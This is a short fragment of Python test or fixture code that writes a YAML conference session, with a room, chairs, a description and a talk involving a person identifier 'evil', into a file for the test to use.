        "    start: 2031-05-06 11:00\n    end: 2031-05-06 12:00\n"
        f"    room: {quoted(TEXTS[1])}\n    chairs: [evil]\n"
        f"    description: {quoted(' '.join(TEXTS[:6]))}\n"
        f"    talks:\n      - {{title: {said}, people: [evil], "
        "start: 2031-05-06 11:00, end: 2031-05-06 11:15}\n"
    )
    path.write_text(text.replace("sessions:\n", session), encoding="utf-8")
